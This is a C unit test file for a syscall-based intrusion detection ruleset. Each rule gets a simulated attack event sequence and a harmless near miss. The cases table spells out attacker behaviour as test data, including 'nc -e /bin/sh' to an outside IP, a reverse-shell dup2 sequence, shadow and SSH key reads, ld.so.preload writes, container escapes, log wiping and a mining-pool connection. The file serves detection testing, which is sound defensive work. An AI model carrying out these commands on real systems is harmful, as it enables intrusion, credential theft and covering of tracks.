/* test_rules_default.c: every rule of rules/ fires on its attack and stays quiet on a near miss, through enricher state, field block and engine. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <arpa/inet.h>
#include <cmocka.h>

#include "engine.h"
#include "event.h"
#include "extract.h"
#include "forward.h"
#include "ppm.h"
#include "rules_compile.h"
#include "rules_load.h"
#include "slots.h"
#include "state.h"

/*
 * A case is a rule, the process that acts (its parent's name, uid, whether it
 * runs in a docker-style cgroup) and two step scripts: `hit` must make the
 * rule fire (on any step), `miss` must not. A script is steps separated by
 * ';', each "EVENT key=value ...", EVENT a Falco event name and the keys its
 * parameter names. Defaults: res=0; execve gets uid, cgroups and
 * trusted_exepath=/usr/bin/COMM. Values: numbers (0x.., 0.. octal, -N) for
 * numeric parameters; in byte buffers '|' separates NUL-terminated items;
 * tuple=A.B.C.D:P->E.F.G.H:Q (IPv4) or tuple=unix:/path.
 * Each script runs in a fresh state: systemd(1) -> PARENT(50) -> actor(100).
 */

#define CTR_CG "cpuset=/docker/0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef|"
#define HOST_CG "cpuset=/user.slice/session-1.scope|"

struct rcase {
	const char *rule;
	const char *pname; /* parent of the actor */
	unsigned uid;	   /* the actor's uid */
	int ctr;	   /* actor in a container */
	const char *hit;
	const char *miss;
};

/* clang-format off */
static const struct rcase cases[] = {
	{"Lanner Password Or Sudoers File Read", "bash", 0, 0,
	 "execve comm=cat args=/etc/shadow; openat fd=3 dirfd=-100 name=/etc/shadow flags=1",
	 "execve comm=passwd args=x; openat fd=3 dirfd=-100 name=/etc/shadow flags=1"},
	{"Lanner SSH Private Key Read", "bash", 1000, 0,
	 "execve comm=python3; openat fd=3 dirfd=-100 name=/home/u/.ssh/id_ed25519 flags=1",
	 "execve comm=ssh; openat fd=3 dirfd=-100 name=/home/u/.ssh/id_ed25519 flags=1"},
	{"Lanner Cloud Credentials Read", "bash", 1000, 0,
	 "execve comm=curl; openat fd=3 dirfd=-100 name=/home/u/.aws/credentials flags=1",
	 "execve comm=aws; openat fd=3 dirfd=-100 name=/home/u/.aws/credentials flags=1"},
	{"Lanner Credential Search", "bash", 1000, 0,
	 "execve comm=grep args=-ri|password|/home",
	 "execve comm=grep args=-ri|TODO|/home"},
	{"Lanner Directory Traversal Read", "nginx", 33, 0,
	 "execve comm=php-cgi cwd=/var/www/html/; openat fd=3 dirfd=-100 name=../../../etc/passwd flags=1",
	 "execve comm=php-cgi cwd=/var/www/html/; openat fd=3 dirfd=-100 name=../../html/index.php flags=1"},
	{"Lanner Write Below Binary Directory", "bash", 0, 0,
	 "execve comm=cp; openat fd=3 dirfd=-100 name=/usr/bin/ls flags=0x106",
	 "execve comm=dpkg; openat fd=3 dirfd=-100 name=/usr/bin/ls flags=0x106"},
	{"Lanner Write Below Library Directory", "bash", 0, 0,
	 "execve comm=tee; openat fd=3 dirfd=-100 name=/etc/ld.so.preload flags=0x106",
	 "execve comm=python3; openat fd=3 dirfd=-100 name=/usr/lib/python3/dist-packages/x/__pycache__/a.pyc flags=0x106"},
	{"Lanner Write Below Etc", "bash", 0, 0,
	 "execve comm=tee; openat fd=3 dirfd=-100 name=/etc/cron.d/job flags=0x106",
	 "execve comm=tee; openat fd=3 dirfd=-100 name=/etc/cron.d/job flags=1"},
	{"Lanner Shell In Container", "node", 0, 1,
	 "execve comm=sh args=-c|id",
	 "execve comm=sh args=-c|id cgroups=" HOST_CG},
	{"Lanner Shell Spawned By Network Service", "nginx", 33, 0,
	 "execve comm=sh args=-c|id",
	 "execve comm=id"},
	{"Lanner Reverse Shell Redirect", "bash", 1000, 0,
	 "execve comm=bash; socket fd=3 domain=2 type=1; connect fd=3 tuple=10.0.0.5:40000->203.0.113.7:443; dup2 res=0 oldfd=3 newfd=0",
	 "execve comm=bash; socket fd=3 domain=2 type=1; connect fd=3 tuple=10.0.0.5:40000->203.0.113.7:443; dup2 res=5 oldfd=3 newfd=5"},
	{"Lanner Netcat Remote Execution", "bash", 1000, 0,
	 "execve comm=nc args=-e|/bin/sh|203.0.113.7|4444",
	 "execve comm=nc args=-zv|203.0.113.7|4444"},
	{"Lanner Listening Socket By Shell", "bash", 1000, 0,
	 "execve comm=ncat args=-l|9001; socket fd=3 domain=2 type=1; listen fd=3 backlog=1",
	 "execve comm=python3 args=-m|http.server; socket fd=3 domain=2 type=1; listen fd=3 backlog=1"},
	{"Lanner Package Manager In Container", "sh", 0, 1,
	 "execve comm=apt-get args=install|-y|nmap",
	 "execve comm=apt-get args=install|-y|nmap cgroups=" HOST_CG},
	{"Lanner Setuid Or Setgid Bit Set", "bash", 0, 0,
	 "execve comm=chmod; fchmodat dirfd=-100 filename=/tmp/x mode=04755",
	 "execve comm=chmod; fchmodat dirfd=-100 filename=/tmp/x mode=0755"},
	{"Lanner Unexpected Setuid To Root", "bash", 1000, 0,
	 "execve comm=exploit loginuid=1000; setresuid ruid=0 euid=0 suid=0",
	 "execve comm=make loginuid=-1; setresuid ruid=-1 euid=0 suid=-1"},
	{"Lanner Capabilities Raised By Non-Root", "bash", 1000, 0,
	 "execve comm=exploit; capset cap_inheritable=0 cap_permitted=0x200000 cap_effective=0x200000",
	 "execve comm=exploit; capset cap_inheritable=0 cap_permitted=0x400 cap_effective=0x400"},
	{"Lanner Sudo By Service Account", "php-fpm", 33, 0,
	 "execve comm=sudo args=-n|id",
	 "execve comm=sudo args=-n|id uid=1000"},
	{"Lanner Userfaultfd By Non-Root", "bash", 1000, 0,
	 "execve comm=poc; userfaultfd res=3 flags=0",
	 "execve comm=poc uid=0; userfaultfd res=3 flags=0"},
	{"Lanner Kernel Module Load", "bash", 0, 0,
	 "execve comm=insmod; init_module length=100 uargs=",
	 "execve comm=systemd-udevd; finit_module fd=3 uargs= flags=0"},
	{"Lanner eBPF Program Load", "bash", 0, 0,
	 "execve comm=loader; bpf fd=4 cmd=5",
	 "execve comm=loader; bpf fd=4 cmd=0"},
	{"Lanner Ptrace Attach", "bash", 0, 0,
	 "execve comm=dumper; ptrace request=11 pid=1234",
	 "execve comm=dumper; ptrace request=11 pid=1234 res=-1"},
	{"Lanner Ptrace Memory Write", "bash", 0, 0,
	 "execve comm=injector; ptrace request=5 pid=1234",
	 "execve comm=injector; ptrace request=2 pid=1234"},
	{"Lanner Ptrace Traceme Anti-Debug", "bash", 1000, 0,
	 "execve comm=sample; ptrace request=1 pid=0",
	 "execve comm=sample; ptrace request=1 pid=0 PARENT=strace"},
	{"Lanner Exec From Memory File", "bash", 1000, 0,
	 "execve comm=3 trusted_exepath=/memfd:payload flags=4",
	 "execve comm=ls trusted_exepath=/usr/bin/ls"},
	{"Lanner Exec From Shared Memory Or Deleted File", "bash", 1000, 0,
	 "execve comm=x trusted_exepath=/dev/shm/x",
	 "execve comm=x trusted_exepath=/tmp/x"},
	{"Lanner Cgroup Release Agent Write", "sh", 0, 1,
	 "execve comm=sh; openat fd=3 dirfd=-100 name=/tmp/cg/release_agent flags=0x102",
	 "execve comm=sh; openat fd=3 dirfd=-100 name=/tmp/cg/release_agent flags=1"},
	{"Lanner Block Device Mounted In Container", "sh", 0, 1,
	 "execve comm=mount; mount dev=/dev/sda1 dir=/mnt type=ext4 flags=0",
	 "execve comm=mount; mount dev=tmpfs dir=/mnt type=tmpfs flags=0"},
	{"Lanner Cgroup Filesystem Mounted In Container", "sh", 0, 1,
	 "execve comm=mount; mount dev=cgroup dir=/tmp/cg type=cgroup flags=0",
	 "execve comm=mount cgroups=" HOST_CG "; mount dev=cgroup dir=/tmp/cg type=cgroup flags=0"},
	{"Lanner Nsenter Into Host Namespaces", "sh", 0, 1,
	 "execve comm=nsenter args=-t|1|-m|-u|-n|-i|sh",
	 "execve comm=nsenter args=-t|1234|-n|ip|a"},
	{"Lanner Setns In Container", "sh", 0, 1,
	 "execve comm=escape; setns fd=3 nstype=0",
	 "execve comm=runc:[2:INIT]; setns fd=3 nstype=0"},
	{"Lanner Namespace Created In Container", "sh", 0, 1,
	 "execve comm=unshare args=-m|sh; unshare flags=0x20",
	 "execve comm=unshare args=-m|sh; unshare flags=0x20 res=-1"},
	{"Lanner Raw Device Opened In Container", "sh", 0, 1,
	 "execve comm=dd; openat fd=3 dirfd=-100 name=/dev/sda flags=1",
	 "execve comm=dd; openat fd=3 dirfd=-100 name=/dev/null flags=1"},
	{"Lanner Container Runtime Socket From Container", "sh", 0, 1,
	 "execve comm=curl; socket fd=3 domain=1 type=1; connect fd=3 tuple=unix:/var/run/docker.sock",
	 "execve comm=curl; socket fd=3 domain=1 type=1; connect fd=3 tuple=unix:/run/app.sock"},
	{"Lanner Log File Truncated", "bash", 0, 0,
	 "execve comm=bash; openat fd=3 dirfd=-100 name=/var/log/auth.log flags=0x102",
	 "execve comm=logrotate; openat fd=3 dirfd=-100 name=/var/log/auth.log flags=0x102"},
	{"Lanner Log File Deleted", "bash", 0, 0,
	 "execve comm=rm; unlinkat dirfd=-100 name=/var/log/wtmp flags=0",
	 "execve comm=rm; unlinkat dirfd=-100 name=/tmp/wtmp flags=0"},
	{"Lanner Shell History Deleted Or Truncated", "bash", 1000, 0,
	 "execve comm=rm; unlinkat dirfd=-100 name=/home/u/.bash_history flags=0",
	 "execve comm=rm; unlinkat dirfd=-100 name=/home/u/.bashrc flags=0"},
	{"Lanner Shell History Linked To Null", "bash", 1000, 0,
	 "execve comm=ln; symlinkat target=/dev/null linkdirfd=-100 linkpath=/home/u/.bash_history",
	 "execve comm=ln; symlinkat target=/dev/null linkdirfd=-100 linkpath=/home/u/out.log"},
	{"Lanner Symlink To Sensitive File", "bash", 1000, 0,
	 "execve comm=ln; symlink target=/etc/shadow linkpath=/tmp/s",
	 "execve comm=ln; symlink target=/etc/hostname linkpath=/tmp/s"},
	{"Lanner Hardlink To Sensitive File", "bash", 1000, 0,
	 "execve comm=ln; link oldpath=/etc/sudoers newpath=/tmp/s",
	 "execve comm=ln; link oldpath=/etc/hostname newpath=/tmp/s"},
	{"Lanner Cloud Metadata Endpoint Access", "bash", 1000, 0,
	 "execve comm=curl; socket fd=3 domain=2 type=1; connect fd=3 tuple=10.0.0.5:40000->169.254.169.254:80",
	 "execve comm=cloud-init; socket fd=3 domain=2 type=1; connect fd=3 tuple=10.0.0.5:40000->169.254.169.254:80"},
	{"Lanner Outbound Connection To Suspicious Port", "bash", 1000, 0,
	 "execve comm=python3; socket fd=3 domain=2 type=1; connect fd=3 tuple=10.0.0.5:40000->203.0.113.7:4444",
	 "execve comm=python3; socket fd=3 domain=2 type=1; connect fd=3 tuple=10.0.0.5:40000->203.0.113.7:443"},
	{"Lanner Cryptominer Started", "bash", 1000, 0,
	 "execve comm=kworkerd args=-o|stratum+tcp://pool.example:3333|-u|x",
	 "execve comm=curl args=-o|out.html|https://example.org/"},
	{"Lanner Outbound Connection To Mining Pool Port", "bash", 1000, 0,
	 "execve comm=kworkerd; socket fd=3 domain=2 type=1; connect fd=3 tuple=10.0.0.5:40000->203.0.113.7:14444",
	 "execve comm=kworkerd; socket fd=3 domain=2 type=1; connect fd=3 tuple=10.0.0.5:40000->127.0.0.1:14444"},
};
/* clang-format on */

#define NCASES (sizeof(cases) / sizeof(cases[0]))

struct pipe {
	struct rules_loader *l;
	struct rules_ruleset *rs;
	struct slot_table *slots;
	struct engine *eng;
	struct st_state *st;
	struct ext_ctx *x;
	char fired[64][128]; /* rules that fired during the current script */
	int nfired;
};

static const char *g_rules_path;

static int on_alert(void *ud, const struct alert *a)
{
	struct pipe *p = ud;

	if (p->nfired < 64)
		snprintf(p->fired[p->nfired++], sizeof(p->fired[0]), "%s", a->rule);
	return 0;
}

static int has_fired(const struct pipe *p, const char *rule)
{
	for (int i = 0; i < p->nfired; i++)
		if (strcmp(p->fired[i], rule) == 0)
			return 1;
	return 0;
}

/* libscap socket tuple from "A:P->B:Q" or "unix:/path"; returns its length. */
static size_t make_tuple(const char *s, uint8_t *out, size_t n)
{
	if (strncmp(s, "unix:", 5) == 0) {
		size_t pl = strlen(s + 5) + 1;

		assert_true(17 + pl <= n);
		memset(out, 0, 17);
		out[0] = PPM_AF_UNIX;
		memcpy(out + 17, s + 5, pl);
		return 17 + pl;
	}
	char a[64], b[64];
	unsigned pa, pb;
	uint16_t p16;
	struct in_addr ia, ib;

	assert_int_equal(sscanf(s, "%63[0-9.]:%u->%63[0-9.]:%u", a, &pa, b, &pb), 4);
	assert_int_equal(inet_pton(AF_INET, a, &ia), 1);
	assert_int_equal(inet_pton(AF_INET, b, &ib), 1);
	out[0] = PPM_AF_INET;
	memcpy(out + 1, &ia, 4);
	p16 = (uint16_t)pa;
	memcpy(out + 5, &p16, 2);
	memcpy(out + 7, &ib, 4);
	p16 = (uint16_t)pb;
	memcpy(out + 11, &p16, 2);
	return 13;
}

struct kv {
	char key[64];
	char val[512];
};

/* One event "NAME k=v ..." of the actor (tid 100), run through the whole path. */
static void run_step(struct pipe *p, const struct rcase *rc, const char *step)
{
	static uint8_t evbuf[65536], out[1 << 20];
	struct kv kv[24];
	int nkv = 0;
	char name[64];
	const char *s = step;
	int type = -1;
	const struct lnr_evt_info *info;
	struct lnr_evt_builder b;
	struct lnr_evt_view v;
	struct st_ctx c;
	int len;

	while (*s == ' ')
		s++;
	size_t nl = strcspn(s, " ");
	assert_true(nl > 0 && nl < sizeof(name));
	memcpy(name, s, nl);
	name[nl] = '\0';
	s += nl;
	for (int t = 0; t < LNR_EVT_MAX; t++)
		if (lnr_evt_info((uint16_t)t) && strcmp(lnr_evt_info((uint16_t)t)->name, name) == 0)
			type = t;
	if (type < 0)
		fail_msg("unknown event '%s' in case '%s'", name, rc->rule);
	while (*s) {
		while (*s == ' ')
			s++;
		if (!*s)
			break;
		size_t l = strcspn(s, " ");
		const char *eq = memchr(s, '=', l);

		assert_non_null(eq);
		assert_true(nkv < 24);
		snprintf(kv[nkv].key, sizeof(kv[0].key), "%.*s", (int)(eq - s), s);
		snprintf(kv[nkv].val, sizeof(kv[0].val), "%.*s", (int)(l - (size_t)(eq - s) - 1),
			 eq + 1);
		nkv++;
		s += l;
	}
	/* defaults */
	if (type == LNR_EVT_EXECVE) {
		char uid[16];
		const char *comm = NULL;

		snprintf(uid, sizeof(uid), "%u", rc->uid);
		for (int i = 0; i < nkv; i++)
			if (strcmp(kv[i].key, "comm") == 0)
				comm = kv[i].val;
		const struct {
			const char *k;
			char v[256];
		} defs[] = {
			{"uid", ""},
			{"cgroups", ""},
			{"trusted_exepath", ""},
			{"exe", ""},
		};
		for (size_t d = 0; d < sizeof(defs) / sizeof(defs[0]); d++) {
			int have = 0;

			for (int i = 0; i < nkv; i++)
				have |= strcmp(kv[i].key, defs[d].k) == 0;
			if (have)
				continue;
			assert_true(nkv < 24);
			snprintf(kv[nkv].key, sizeof(kv[0].key), "%s", defs[d].k);
			if (d == 0)
				snprintf(kv[nkv].val, sizeof(kv[0].val), "%s", uid);
			else if (d == 1)
				snprintf(kv[nkv].val, sizeof(kv[0].val), "%s",
					 rc->ctr ? CTR_CG : HOST_CG);
			else if (d == 2)
				snprintf(kv[nkv].val, sizeof(kv[0].val), "/usr/bin/%s",
					 comm ? comm : "x");
			else
				snprintf(kv[nkv].val, sizeof(kv[0].val), "%s", comm ? comm : "x");
			nkv++;
		}
	}
	/* PARENT=NAME renames the actor's parent before the event (a pseudo key). */
	for (int i = 0; i < nkv; i++)
		if (strcmp(kv[i].key, "PARENT") == 0) {
			struct enr_thread *par = thr_get(st_threads(p->st), 50);

			assert_non_null(par);
			snprintf(par->proc->comm, sizeof(par->proc->comm), "%s", kv[i].val);
		}

	info = lnr_evt_info((uint16_t)type);
	assert_int_equal(lnr_evb_init(&b, evbuf, sizeof(evbuf), (uint16_t)type,
				      1795868946211176210ULL, 100, 100),
			 0);
	for (unsigned k = 0; k < info->nparams; k++) {
		const char *pn = info->params[k].name;
		enum lnr_ptype t = info->params[k].type;
		const char *val = NULL;

		for (int i = 0; i < nkv; i++)
			if (strcmp(kv[i].key, pn) == 0)
				val = kv[i].val;
		if (!val && strcmp(pn, "res") == 0)
			val = "0";
		if (!val) {
			lnr_evb_absent(&b);
			continue;
		}
		switch (t) {
		case LNR_PT_CHARBUF:
		case LNR_PT_FSPATH:
		case LNR_PT_FSRELPATH:
			lnr_evb_str(&b, val, 0);
			break;
		case LNR_PT_BYTEBUF: {
			char buf[512];
			size_t bl = strlen(val);

			memcpy(buf, val, bl + 1);
			for (size_t i = 0; i < bl; i++)
				if (buf[i] == '|')
					buf[i] = '\0';
			/* "a|b" -> "a\0b\0"; a trailing '|' already ends the last item */
			lnr_evb_bytes(&b, buf, bl && val[bl - 1] == '|' ? bl : bl + 1, 0);
			break;
		}
		case LNR_PT_SOCKTUPLE: {
			uint8_t tb[256];

			lnr_evb_bytes(&b, tb, make_tuple(val, tb, sizeof(tb)), 0);
			break;
		}
		case LNR_PT_INT64:
		case LNR_PT_INT32:
		case LNR_PT_INT16:
		case LNR_PT_INT8:
		case LNR_PT_ERRNO:
		case LNR_PT_FD:
		case LNR_PT_PID:
			lnr_evb_s64(&b, strtoll(val, NULL, 0));
			break;
		default:
			lnr_evb_u64(&b, strtoull(val, NULL, 0));
			break;
		}
	}
	len = lnr_evb_finish(&b);
	assert_true(len > 0);
	assert_int_equal(lnr_evt_decode(evbuf, (size_t)len, &v, NULL), 0);
	assert_int_equal(st_apply(p->st, &v, &c), 0);
	if (fwd_wanted(p->rs, (uint16_t)type)) {
		int olen;

		ext_begin(p->x, p->st, &c);
		olen = fwd_build(p->x, p->slots, &v, out, sizeof(out));
		assert_true(olen > 0);
		assert_true(engine_eval(p->eng, out, (size_t)olen, on_alert, p) >= 0);
	}
	st_finish(p->st, &c);
}

/* A fresh state (systemd -> PARENT -> actor), then the script's steps. */
static void run_script(struct pipe *p, const struct rcase *rc, const char *script)
{
	struct enr_thread *init, *par, *me;
	char buf[2048];
	char *save = NULL;

	st_free(p->st);
	p->st = st_new(NULL);
	assert_non_null(p->st);
	init = thr_add(st_threads(p->st), 1, 1, 0);
	strcpy(init->proc->comm, "systemd");
	enr_str_set(&init->proc->exepath, "/usr/lib/systemd/systemd", 0);
	par = thr_fork(st_threads(p->st), init, 50, 50, 0, 0);
	snprintf(par->proc->comm, sizeof(par->proc->comm), "%s", rc->pname);
	enr_str_set(&par->proc->exepath, "/usr/bin/parent", 0);
	par->proc->uid = rc->uid;
	me = thr_fork(st_threads(p->st), par, 100, 100, 0, 0);
	assert_non_null(me);
	enr_str_set(&me->proc->cwd, "/root/", 0);
	p->nfired = 0;
	snprintf(buf, sizeof(buf), "%s", script);
	for (char *step = strtok_r(buf, ";", &save); step; step = strtok_r(NULL, ";", &save))
		run_step(p, rc, step);
}

static int setup(void **state)
{
	struct pipe *p = calloc(1, sizeof(*p));
	struct rules_opts o = {.min_priority = RULES_PRIO_DEBUG};

	if (!p)
		return -1;
	p->l = rules_loader_new();
	if (!p->l || rules_loader_load_file(p->l, g_rules_path) != 0)
		return -1;
	p->rs = rules_compile(p->l, &o);
	p->slots = p->rs ? slots_build(p->rs) : NULL;
	p->eng = p->slots ? engine_new(p->rs, p->slots, "testhost") : NULL;
	p->st = st_new(NULL);
	p->x = calloc(1, sizeof(*p->x));
	if (!p->eng || !p->st || !p->x)
		return -1;
	*state = p;
	return 0;
}

static int teardown(void **state)
{
	struct pipe *p = *state;

	engine_free(p->eng);
	slots_free(p->slots);
	rules_ruleset_free(p->rs);
	rules_loader_free(p->l);
	st_free(p->st);
	free(p->x);
	free(p);
	return 0;
}

/* Every rule of the ruleset has a case, every case names a rule of the ruleset. */
static void test_every_rule_has_a_case(void **state)
{
	struct pipe *p = *state;
	int bad = 0;

	assert_true(p->rs->nrules >= 30);
	for (size_t i = 0; i < p->rs->nrules; i++) {
		const char *n = p->rs->rules[i].rule->name;
		size_t k;

		for (k = 0; k < NCASES; k++)
			if (strcmp(cases[k].rule, n) == 0)
				break;
		if (k == NCASES) {
			print_error("rule without a case: %s\n", n);
			bad++;
		}
	}
	for (size_t k = 0; k < NCASES; k++)
		if (!rules_ruleset_find(p->rs, cases[k].rule)) {
			print_error("case for an unknown rule: %s\n", cases[k].rule);
			bad++;
		}
	assert_int_equal(bad, 0);
}

/* Every rule: desc, output, MITRE tags (a mitre_ tactic and a T technique). */
static void test_every_rule_is_documented(void **state)
{
	struct pipe *p = *state;

	for (size_t i = 0; i < p->rs->nrules; i++) {
		const struct rules_rule *r = p->rs->rules[i].rule;
		int mitre = 0, tech = 0;

		assert_non_null(r->desc);
		assert_true(strlen(r->desc) > 40);
		assert_non_null(r->output);
		assert_non_null(strstr(r->output, "%proc."));
		for (size_t t = 0; t < r->ntags; t++) {
			mitre |= strncmp(r->tags[t], "mitre_", 6) == 0;
			tech |= r->tags[t][0] == 'T' && r->tags[t][1] >= '0' &&
				r->tags[t][1] <= '9';
		}
		if (!mitre || !tech)
			fail_msg("rule '%s' lacks MITRE tags", r->name);
	}
}

static void test_hits_and_near_misses(void **state)
{
	struct pipe *p = *state;
	int bad = 0;

	for (size_t k = 0; k < NCASES; k++) {
		run_script(p, &cases[k], cases[k].hit);
		if (!has_fired(p, cases[k].rule)) {
			print_error("NOT DETECTED: %s (hit: %s)\n", cases[k].rule, cases[k].hit);
			bad++;
		}
		run_script(p, &cases[k], cases[k].miss);
		if (has_fired(p, cases[k].rule)) {
			print_error("FALSE POSITIVE: %s (near miss: %s)\n", cases[k].rule,
				    cases[k].miss);
			bad++;
		}
	}
	assert_int_equal(bad, 0);
}

int main(int argc, char **argv)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_every_rule_has_a_case),
		cmocka_unit_test(test_every_rule_is_documented),
		cmocka_unit_test(test_hits_and_near_misses),
	};

	if (argc < 2) {
		fprintf(stderr, "usage: %s RULES_FILE\n", argv[0]);
		return 2;
	}
	g_rules_path = argv[1];
	return cmocka_run_group_tests(tests, setup, teardown);
}
